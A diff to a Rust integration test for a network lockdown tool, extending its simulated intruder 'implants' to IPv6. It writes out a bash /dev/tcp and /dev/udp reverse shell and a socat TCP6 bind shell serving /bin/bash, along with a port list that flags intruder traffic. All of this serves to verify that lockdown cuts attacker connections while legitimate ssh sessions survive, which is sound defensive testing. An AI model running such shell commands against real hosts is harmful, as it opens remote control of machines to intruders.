@@ -4,7 +4,7 @@
 use std::{
     fs,
     io::Read,
-    net::{TcpListener, TcpStream, UdpSocket},
+    net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
     path::Path,
     process::Command,
     sync::mpsc,
@@ -76,7 +76,10 @@ struct Implants {
     bind_stream: TcpStream,
     container: Process,
     container_stream: TcpStream,
-    _udp_listener: UdpSocket,
+    /// The same over IPv6 but for the container: its flow, as `explain` reads it, and its process.
+    six: Vec<(String, Process)>,
+    six_streams: Vec<TcpStream>,
+    _udp_listeners: [UdpSocket; 2],
     _namespace: guard_tests::world::Namespace,
 }
 
@@ -97,6 +100,14 @@ impl Implants {
         fs::write(&script, format!("{beats}\n")).unwrap();
         let served = format!("EXEC:/bin/bash {}", script.display());
         let bind = Process::spawn(socat.args(["TCP-LISTEN:9001,reuseaddr,fork", &served])).unwrap();
+
+        let far = world.intruder.v6;
+        let six_at = world.intruder.run(|| TcpListener::bind((far, 4446))).unwrap();
+        let six_udp = world.intruder.run(|| UdpSocket::bind((far, 5354))).unwrap();
+        let reverse_six = shell(&world.server, format!("exec 3<>/dev/tcp/{far}/4446; ({beats}) >&3"));
+        let udp_six = shell(&world.server, format!("exec 3<>/dev/udp/{far}/5354; ({beats}) >&3"));
+        let mut socat = world.server.command("socat");
+        let bind_six = Process::spawn(socat.args(["TCP6-LISTEN:9003,reuseaddr,fork", &served])).unwrap();
 
         // A container: a veth pair, masqueraded.
         let namespace = world.namespace("container").unwrap();
@@ -121,14 +132,15 @@ impl Implants {
 
         let accept = |listener: &TcpListener| listener.accept().unwrap().0;
         let deadline = Instant::now() + LIMIT;
-        let bind_stream = loop {
-            let to = (world.server.v4, 9001).into();
+        let comes_in = |to: SocketAddr| loop {
             match world.intruder.run(|| TcpStream::connect_timeout(&to, Duration::from_secs(1))) {
                 Ok(stream) => break stream,
-                Err(error) if Instant::now() > deadline => panic!("the bind shell: {error}"),
+                Err(error) if Instant::now() > deadline => panic!("the bind shell at {to}: {error}"),
                 Err(_) => thread::sleep(Duration::from_millis(20)),
             }
         };
+        let bind_stream = comes_in((world.server.v4, 9001).into());
+        let six_streams = vec![accept(&six_at), comes_in((world.server.v6, 9003).into())];
         let implants = Self {
             reverse_stream: accept(&reverse_at),
             container_stream: accept(&container_at),
@@ -137,10 +149,17 @@ impl Implants {
             bind,
             bind_stream,
             container,
-            _udp_listener: udp_listener,
+            six: vec![
+                (format!("out tcp [{far}]:4446"), reverse_six),
+                (format!("out udp [{far}]:5354"), udp_six),
+                (format!("in tcp [{far}] -> 9003"), bind_six),
+            ],
+            six_streams,
+            _udp_listeners: [udp_listener, six_udp],
             _namespace: namespace,
         };
-        for stream in [&implants.reverse_stream, &implants.bind_stream, &implants.container_stream] {
+        let four = [&implants.reverse_stream, &implants.bind_stream, &implants.container_stream];
+        for stream in four.into_iter().chain(&implants.six_streams) {
             stream.set_read_timeout(Some(LIMIT)).unwrap();
             let mut stream = stream;
             stream.read_exact(&mut [0; 5]).unwrap();
@@ -149,20 +168,22 @@ impl Implants {
     }
 
     /// Their flows, as `explain` reads them, with the process that each belongs to.
-    fn flows(&self) -> [(&'static str, u32); 4] {
-        [
+    fn flows(&self) -> Vec<(&str, u32)> {
+        let four = [
             ("out tcp 203.0.113.9:4444", self.reverse.pid()),
             ("out udp 203.0.113.9:5353", self.udp.pid()),
             ("in tcp 203.0.113.9 -> 9001", self.bind.pid()),
             ("out tcp 203.0.113.9:4445", self.container.pid()),
-        ]
+        ];
+        four.into_iter().chain(self.six.iter().map(|(flow, process)| (flow.as_str(), process.pid()))).collect()
     }
 }
 
 /// What only an intruder says.
 fn intruders(packet: &Packet) -> bool {
     let ports = [packet.source_port, packet.destination_port];
-    matches!(packet.protocol, TCP | UDP) && ports.iter().any(|port| [4444, 4445, 5353, 9001].contains(port))
+    matches!(packet.protocol, TCP | UDP)
+        && ports.iter().any(|port| [4444, 4445, 4446, 5353, 5354, 9001, 9003].contains(port))
 }
 
 /// As many programs in a row as a session over ssh has, and no network: what a busy machine makes keys wait by itself.
@@ -188,6 +209,9 @@ fn the_session_lives_through_all_of_it_and_the_intruder_is_cut() {
         Guard::prepare(&world, "version: 1\nname: before\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
     let implants = Implants::start(&world);
     let keys = Keystrokes::start(&mut over_ssh(&sshd, &world, "cat")).unwrap();
+    // A colleague over IPv6, whose range is named.
+    let mut six = sshd.client(&world.responder, world.server.v6.into());
+    let keys_six = Keystrokes::start(six.env("LC_ALL", "C").arg("cat")).unwrap();
     let bare = Keystrokes::start(&mut on_this_machine()).unwrap();
     let magic = world.server.run(|| packet_socket(world.server.interface_index("eth0"))).unwrap();
     let hears_magic = || {
@@ -221,10 +245,13 @@ fn the_session_lives_through_all_of_it_and_the_intruder_is_cut() {
     // A policy of before, so that there is something to restore.
     guard.run(&[]).unwrap();
     let witness = Witness::start(&world.router, World::WIRE).unwrap();
-    let (lockdown, contained) = lock_down(&sshd, &world, &guard, "--allow-from 192.0.2.20 --confirm-within 5m");
+    let (lockdown, contained) = {
+        let six = world.responder.v6;
+        lock_down(&sshd, &world, &guard, &format!("--allow-from 192.0.2.20 --allow-from {six} --confirm-within 5m"))
+    };
     let at = Instant::now();
     assert!(contained["proof"]["failed"].as_array().unwrap().is_empty(), "{contained:#}");
-    assert!(contained["would_cut"].as_u64().unwrap() >= 4, "{contained:#}");
+    assert!(contained["would_cut"].as_u64().unwrap() >= 7, "{contained:#}");
     eprintln!("contained after {} ms", contained["contained_ms"]);
 
     // They were loud before, and are silent since: what is on its way when the flip comes, has left.
@@ -266,7 +293,9 @@ fn the_session_lives_through_all_of_it_and_the_intruder_is_cut() {
         assert!(found["details"]["error"].is_null(), "{found:#}");
     }
     let left = world.server.run(guard::host::sock_diag::sockets).unwrap();
-    let theirs = left.all.iter().filter(|socket| socket.remote.ip() == std::net::IpAddr::from(world.intruder.v4));
+    let far = [false, true].map(|ipv6| world.intruder.address(ipv6));
+    // A UDP socket of IPv6 that was cut off keeps the address, and has no port.
+    let theirs = left.all.iter().filter(|socket| far.contains(&socket.remote.ip()) && socket.remote.port() != 0);
     assert_eq!(theirs.count(), 0, "{:?}", left.all);
     assert_eq!(witness.count(intruders), 0, "not even a reset leaves");
 
@@ -296,11 +325,13 @@ fn the_session_lives_through_all_of_it_and_the_intruder_is_cut() {
     assert!(status["policy"] == "before" && status["lockdown"].is_null(), "{status:#}");
     guard.release().unwrap();
 
-    let typed = keys.finish();
-    eprintln!("{typed:?}");
-    assert_eq!(typed.keys, typed.echoed, "no key is lost");
+    let both = [("IPv4", keys.finish()), ("IPv6", keys_six.finish())];
     let bare = bare.finish();
-    assert!(typed.slowest < PAUSE + bare.slowest, "{typed:?}, beside {bare:?}");
+    for (family, typed) in both {
+        eprintln!("{family}: {typed:?}");
+        assert_eq!(typed.keys, typed.echoed, "no key is lost over {family}");
+        assert!(typed.slowest < PAUSE + bare.slowest, "{family}: {typed:?}, beside {bare:?}");
+    }
 }
 
 /// The deadline is the kernel's: whatever happened to the daemon, and to the command that counts down.
